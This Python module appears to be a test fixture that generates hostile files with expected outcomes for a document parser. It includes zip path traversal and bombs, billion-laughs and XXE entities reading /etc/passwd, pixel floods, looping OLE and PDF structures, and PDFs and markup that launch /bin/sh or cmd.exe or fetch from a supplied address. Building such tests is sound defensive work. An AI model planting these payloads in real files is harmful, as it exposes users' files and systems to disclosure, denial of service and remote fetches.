"""
Files that mean harm, made small: name, content, and the verdicts that are right.

A maker in GROUPS takes an `http` address without its last slash: whatever its files ask for leads there.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from email.message import EmailMessage
from typing import NamedTuple

PROSE = "La prevención empieza en la escuela y en la comunidad."
SECRET = "/etc/passwd"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:"
_MILLION = 1_000_000


class Hostile(NamedTuple):
    name: str
    content: bytes
    codes: tuple[str, ...]


def zipped(*members: tuple[str | zipfile.ZipInfo, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", packing) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return target.getvalue()


def pdf(*objects: bytes, catalogue: bytes = b"") -> bytes:
    """Make a PDF of one page that says PROSE; more objects have numbers from 6."""
    drawn = b"BT /F1 12 Tf 72 700 Td (" + PROSE.encode("latin-1") + b") Tj ET"
    parts = [
        b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R/Resources<</Font<</F1 4 0 R>>>>/Annots[%s]>>"
        % b" ".join(b"%d 0 R" % number for number in range(6, 6 + len(objects))),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(drawn), drawn),
        *objects,
    ]
    content = b"%PDF-1.7\n"
    places = []
    for number, part in enumerate(parts, 1):
        places.append(len(content))
        content += b"%d 0 obj%s\nendobj\n" % (number, part)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(parts) + 1, rows)
    return content + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, start)


def _word(body: str, *, before: str = "", relations: str = "") -> bytes:
    parts = [
        ("[Content_Types].xml", b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
        ("word/document.xml", f'{before}<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'.encode()),
    ]
    if relations:
        place = "http://schemas.openxmlformats.org/package/2006/relationships"
        parts.append(("word/_rels/document.xml.rels", f'<Relationships xmlns="{place}">{relations}</Relationships>'.encode()))
    return zipped(*parts)


def _paragraph(text: str = PROSE) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _open_document(kind: str, body: str, before: str = "") -> bytes:
    names = "".join(f' xmlns:{short}="{_OFFICE}{short}:1.0"' for short in ("office", "text", "table"))
    content = f"{before}<office:document-content{names}><office:body>{body}</office:body></office:document-content>"
    return zipped(("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode()), ("content.xml", content.encode()))


def _workbook(rows: str) -> bytes:
    place = "http://schemas.openxmlformats.org/package/2006/relationships"
    return zipped(
        ("[Content_Types].xml", b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
        (
            "xl/workbook.xml",
            f'<workbook xmlns="{_SHEETS}" xmlns:r="{_RELATIONS}"><sheets><sheet name="a" r:id="a"/></sheets></workbook>'.encode(),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{place}"><Relationship Id="a" Type="{_RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>".encode(),
        ),
        ("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{_SHEETS}"><sheetData>{rows}</sheetData></worksheet>'.encode()),
    )


def _archives(_address: str) -> Iterator[Hostile]:
    ways = ("../../../fuera.txt", "/fuera.txt", "C:\\fuera.txt", "..\\..\\fuera.txt", "a/../../fuera.txt", "~/fuera.txt")
    yield Hostile("slip.zip", zipped(*((way, PROSE.encode()) for way in ways)), ("ok",))
    link = zipfile.ZipInfo("enlace.txt")
    link.external_attr = 0o120777 << 16
    yield Hostile("link.zip", zipped((link, SECRET.encode())), ("no-text",))
    inner = zipped(("a.txt", PROSE.encode() * 100))
    for _ in range(30):
        inner = zipped(("a.zip", inner), ("b.zip", inner)) if len(inner) < _MILLION else zipped(("a.zip", inner))
    yield Hostile("nest.zip", inner, ("ok", "too-large"))
    yield Hostile("many.zip", zipped(*((f"{n}.txt", b"") for n in range(20_000))), ("too-large", "no-text"))
    yield Hostile("bomb.zip", zipped(*((f"{n}.txt", bytes(50 * _MILLION)) for n in range(2))), ("too-large",))


def _polyglots(_address: str) -> Iterator[Hostile]:
    page, archive = pdf(), zipped(("a.txt", PROSE.encode()))
    markup = f"<html><body><p>{PROSE}</p><script>fetch('/')</script></body></html>".encode()
    yield Hostile("pdf-and-zip.pdf", page + archive, ("ok",))
    yield Hostile("zip-and-pdf.zip", archive + page, ("ok", "damaged"))
    yield Hostile("html-and-pdf.html", markup + page, ("ok",))
    yield Hostile("jpeg-and-zip.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + archive, ("ok", "damaged", "needs-ocr"))
    yield Hostile("gif-and-script.gif", b"GIF89a=1;alert(1)//" + markup, ("ok", "unsupported", "damaged"))
    yield Hostile("program.pdf", b"\x7fELF\x02\x01\x01" + bytes(50) + page, ("ok", "unsupported", "damaged"))


def _pictures(_address: str) -> Iterator[Hostile]:
    side = 50_000
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes((side // 8 + 1) * 2_000))
    chunks = ((b"IHDR", head), (b"IDAT", rows), (b"IEND", b""))
    png = b"".join(struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks)
    yield Hostile("huge.png", b"\x89PNG\r\n\x1a\n" + png, ("too-large",))
    entries = ((256, side), (257, side), (258, 1), (259, 32_773), (262, 1), (273, 8), (278, side), (279, 9))
    directory = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in entries)
    tiff = b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", len(entries)) + directory + bytes(4)
    yield Hostile("huge.tiff", tiff, ("too-large",))
    drawn = f'<svg xmlns="http://www.w3.org/2000/svg" width="{side}" height="{side}"><text>{PROSE}</text></svg>'
    yield Hostile("huge.svg", drawn.encode(), ("ok",))


def _markup(_address: str) -> Iterator[Hostile]:
    attributes = " ".join(f"a{n}='1'" for n in range(_MILLION))
    yield Hostile("attributes.html", f"<html><body><p {attributes}>{PROSE}</p></body></html>".encode(), ("ok", "damaged", "too-large"))
    yield Hostile("attributes.docx", _word(f"<w:p {attributes}/>{_paragraph()}"), ("ok", "damaged", "too-large"))
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" {attributes}><text>{PROSE}</text></svg>'
    yield Hostile("attributes.svg", svg.encode(), ("ok", "damaged", "too-large"))
    deep = 200_000
    yield Hostile("deep.docx", _word("<w:p>" * deep + "</w:p>" * deep), ("damaged", "no-text", "too-large"))
    body = f"<office:text>{'<text:p>' * deep}{'</text:p>' * deep}</office:text>"
    yield Hostile("deep.odt", _open_document("text", body), ("damaged", "no-text", "too-large"))
    for sign in (">", "[", "*_", "`", "* ", "![](", "<b>"):
        yield Hostile(f"deep-{ord(sign[0])}.md", (sign * 50_000 + PROSE).encode(), ("ok", "no-text", "too-large", "damaged"))
    yield Hostile("line.txt", b"a" * 5 * _MILLION, ("ok", "too-large"))
    yield Hostile("cues.srt", b"".join(b"%d\n00:00:01,000 --> 00:00:02,000\nNo\n\n" % n for n in range(30_000)), ("ok",))
    letter = "Subject: a\nContent-Type: multipart/mixed; boundary=a\n\n"
    yield Hostile(
        "deep.eml", (letter + "--a\nContent-Type: multipart/mixed; boundary=a\n\n" * 5_000).encode(), ("no-text", "damaged", "ok")
    )


def _bombs(_address: str) -> Iterator[Hostile]:
    entities = '<!ENTITY a0 "ja">' + "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
    laughs = f"<!DOCTYPE x [{entities}]>"
    secret = f'<!DOCTYPE x [<!ENTITY a9 SYSTEM "file://{SECRET}">]>'
    for name, before in (("laughs", laughs), ("secret", secret)):
        yield from _with_entity(name, before, "&a9;")
    spaces = f"<w:p><w:r><w:t>{' ' * 60 * _MILLION}</w:t></w:r></w:p>"
    yield Hostile("spaces.docx", _word(spaces), ("too-large", "damaged"))


def _with_entity(name: str, before: str, entity: str) -> Iterator[Hostile]:
    codes = ("ok", "damaged", "no-text", "too-large")
    yield Hostile(f"{name}.docx", _word(_paragraph(entity), before=before), codes)
    yield Hostile(f"{name}.odt", _open_document("text", f"<office:text><text:p>{entity}</text:p></office:text>", before), codes)
    yield Hostile(f"{name}.svg", f'{before}<svg xmlns="http://www.w3.org/2000/svg"><text>{entity}</text></svg>'.encode(), codes)
    yield Hostile(f"{name}.html", f"{before}<html><body><p>{PROSE} {entity}</p></body></html>".encode(), codes)


def _tables(_address: str) -> Iterator[Hostile]:
    last = f'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>{PROSE}</t></is></c></row>'
    yield Hostile("last-cell.xlsx", _workbook(last), ("ok",))
    beyond = f'<row r="99999999"><c r="ZZZZZZ99999999" t="inlineStr"><is><t>{PROSE}</t></is></c></row>'
    yield Hostile("beyond.xlsx", _workbook(beyond), ("ok", "damaged", "too-large"))
    cell = f'<table:table-cell table:number-columns-repeated="16384"><text:p>{PROSE}</text:p></table:table-cell>'
    sheet = f'<table:table table:name="a"><table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row></table:table>'
    body = f"<office:spreadsheet>{sheet}</office:spreadsheet>"
    yield Hostile("repeated.ods", _open_document("spreadsheet", body), ("ok", "too-large"))


def _loops(_address: str) -> Iterator[Hostile]:
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", head, 44, 1, 1, 0, 4096, 1, 1, 1, 0, 1)
    struct.pack_into("<I", head, 76, 0)
    table = struct.pack("<128I", *([0] * 128))  # every sector is followed by the first
    for ending in ("doc", "xls", "ppt"):
        yield Hostile(f"loop.{ending}", bytes(head) + table + bytes(512), ("damaged", "unsupported"))
    kids = pdf(b"<</Type/Pages/Kids[6 0 R 6 0 R]/Count 99999>>").replace(b"/Kids[3 0 R]/Count 1>>", b"/Kids[6 0 R 3 0 R]/Count 9>>")
    yield Hostile("kids.pdf", kids, ("ok", "damaged", "crashed", "no-text"))


def _callers(address: str) -> Iterator[Hostile]:
    """Make files that would have something fetched or run."""
    link = address.encode()
    run = b"<</S/JavaScript/JS(app.launchURL\\('" + link + b"/js'\\))>>"
    actions: tuple[tuple[str, Callable[[], bytes]], ...] = (
        ("javascript", lambda: pdf(catalogue=b"/OpenAction" + run + b"/AA<</WC " + run + b">>")),
        ("launch", lambda: pdf(catalogue=b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>")),
        ("open-link", lambda: pdf(catalogue=b"/OpenAction<</S/URI/URI(" + link + b"/open)>>")),
        ("elsewhere", lambda: pdf(catalogue=b"/OpenAction<</S/GoToR/F<</FS/URL/F(" + link + b"/remote.pdf)>>/D[0/Fit]>>")),
        ("submit", lambda: pdf(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F<</FS/URL/F(" + link + b"/form)>>>>>>")),
        ("outside-stream", lambda: pdf().replace(b"<</Length", b"<</F<</FS/URL/F(" + link + b"/stream)>>/Length")),
    )
    for name, make in actions:
        yield Hostile(f"{name}.pdf", make(), ("ok", "no-text"))
    markup = (
        f'<html><head><meta http-equiv="refresh" content="0;url={address}/refresh"><base href="{address}/"><link rel="stylesheet" '
        f'href="{address}/css"><style>@import "{address}/import";</style><script src="{address}/js"></script></head>'
        f'<body onload="x()"><p>{PROSE}</p><img src="{address}/img"><iframe src="{address}/frame"></iframe>'
        f'<object data="{address}/object"></object></body></html>'
    )
    yield Hostile("calls.html", markup.encode(), ("ok",))
    svg = (
        f'<?xml-stylesheet href="{address}/xsl"?><!DOCTYPE svg SYSTEM "{address}/dtd"><svg xmlns="http://www.w3.org/2000/svg" '
        f'xmlns:xi="http://www.w3.org/2001/XInclude"><text>{PROSE}</text><image href="{address}/image"/>'
        f'<xi:include href="{address}/inc"/></svg>'
    )
    yield Hostile("calls.svg", svg.encode(), ("ok", "damaged"))
    template = f'<Relationship Id="a" Type="{_RELATIONS}/attachedTemplate" Target="{address}/t.dotm" TargetMode="External"/>'
    picture = f'<Relationship Id="b" Type="{_RELATIONS}/footnotes" Target="{address}/notes.xml" TargetMode="External"/>'
    yield Hostile("calls.docx", _word(_paragraph(), relations=template + picture), ("ok",))
    outside = f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{address}/dtd"> %a;]>'
    yield Hostile("outside.docx", _word(_paragraph(), before=outside), ("ok", "damaged"))
    field = f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{address}/rtf"}}{{\\fldrslt {{Prevenci\\\'f3n}}}}}}'
    yield Hostile("calls.rtf", f"{{\\rtf1\\ansi {field}{{\\*\\template {address}/dot}}}}".encode(), ("ok",))
    letter = EmailMessage()
    letter["Subject"] = "a"
    letter.set_content(markup, subtype="html")
    yield Hostile("calls.eml", letter.as_bytes(), ("ok",))
    yield Hostile("calls.mp4", f"#EXTM3U\n#EXTINF:9,\n{address}/hls.ts\n".encode(), ("ok", "damaged", "unsupported"))
    yield Hostile("calls.avi", f"ffconcat version 1.0\nfile '{address}/concat'\n".encode(), ("ok", "damaged", "unsupported"))
    yield Hostile("calls.md", f"# {PROSE}\n\n![a]({address}/md) <img src='{address}/md2'>".encode(), ("ok",))


GROUPS: Mapping[str, Callable[[str], Iterator[Hostile]]] = {
    "archives": _archives,
    "polyglots": _polyglots,
    "pictures": _pictures,
    "markup": _markup,
    "bombs": _bombs,
    "tables": _tables,
    "loops": _loops,
    "callers": _callers,
}
